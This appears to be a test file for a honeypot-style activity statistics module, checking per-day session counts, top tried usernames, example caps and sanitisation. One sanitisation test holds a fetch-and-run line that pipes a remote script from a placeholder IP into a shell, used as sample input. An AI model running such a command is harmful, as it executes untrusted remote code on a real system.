"""The builder's activity statistics: days, top usernames, examples."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from sikker.builder import demo
from sikker.builder.demo_stats import DEMO_DAYS, demo_stats
from sikker.builder.stats import (
    DAYS,
    EXAMPLES,
    TOP_USERNAMES,
    day_name,
    merge,
    sanitise,
)
from sikker.core.vocab import PROTOCOLS

DAY = 86_400


def test_sessions_add_up_per_day_and_protocol() -> None:
    stats = merge(None, {(20_000, "ssh"): 3, (20_001, "ssh"): 1}, {}, {})
    stats = merge(stats, {(20_000, "ssh"): 2, (20_000, "redis"): 5}, {}, {})
    assert stats["days"] == {
        day_name(20_000): {"ssh": 5, "redis": 5},
        day_name(20_001): {"ssh": 1},
    }
    assert day_name(20_000) == "2024-10-04"


def test_only_the_newest_days_are_kept() -> None:
    stats = merge(None, {(d, "ssh"): 1 for d in range(DAYS + 10)}, {}, {})
    assert len(stats["days"]) == DAYS
    assert min(stats["days"]) == day_name(10)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.dictionaries(
            st.sampled_from([f"user{i}" for i in range(3 * TOP_USERNAMES)]),
            st.integers(1, 50),
            max_size=60,
        ),
        max_size=12,
    )
)
def test_the_top_usernames_stay_exact_batch_after_batch(
    batches: list[dict[str, int]],
) -> None:
    totals: dict[str, int] = {}
    stats = None
    for batch in batches:  # each batch adds attempts; totals only grow
        changed = {}
        for name, more in batch.items():
            totals[name] = totals.get(name, 0) + more
            changed[name] = totals[name]
        stats = merge(stats, {}, changed, {})
    expected = sorted(totals.items(), key=lambda i: (-i[1], i[0]))[:TOP_USERNAMES]
    assert list((stats or {"usernames": {}})["usernames"].items()) == expected


def test_examples_are_capped_and_not_repeated() -> None:
    stats = merge(None, {}, {}, {"p": ["a", "b", "a"]})
    stats = merge(stats, {}, {}, {"p": ["b", "c", "d", "e"], "q": ["x"]})
    assert stats["examples"] == {"p": ["a", "b", "c"][:EXAMPLES], "q": ["x"]}


def test_examples_are_sanitised_like_comments() -> None:
    raw = (
        "wget http://user:pw@203.0.113.9/x.sh?token=abc -O- | sh\n"
        "# mail admin@example.com\x1b[31m"
    )
    shown = sanitise(raw)
    assert (
        "pw@" not in shown and "abc" not in shown and "admin@example.com" not in shown
    )
    assert "203.0.113.9" not in shown and "\n" not in shown and "\x1b" not in shown
    assert "wget http://" in shown and "| sh" in shown
    assert len(sanitise("x " * 500)) <= 200


def test_demo_activity_spreads_each_ips_sessions_over_its_days() -> None:
    now = 1_800_000_000
    table = demo.generate(400, seed=3, now=now)
    stats = demo_stats(table, now)
    assert len(stats["days"]) <= DEMO_DAYS and stats["examples"] == {}
    first = now // DAY - DEMO_DAYS + 1
    expected = np.zeros((len(PROTOCOLS), DEMO_DAYS))
    for i in range(len(table)):
        start = int(table.first_seen[i]) // DAY
        stop = max(int(table.last_seen[i]) // DAY, start)
        lo, hi = table.protocols.offsets[i], table.protocols.offsets[i + 1]
        for pid, n in zip(
            table.protocols.ids[lo:hi],
            table.protocols.values["sessions"][lo:hi],
            strict=True,
        ):
            for day in range(max(start, first), min(stop, first + DEMO_DAYS - 1) + 1):
                expected[pid, day - first] += n / (stop - start + 1)
    for d in range(DEMO_DAYS):
        shown = stats["days"].get(day_name(first + d), {})
        for p, name in enumerate(PROTOCOLS):
            assert abs(shown.get(name, 0) - expected[p, d]) <= 1, (d, name)
    tried = list(stats["usernames"].values())
    assert tried == sorted(tried, reverse=True) and "root" in stats["usernames"]
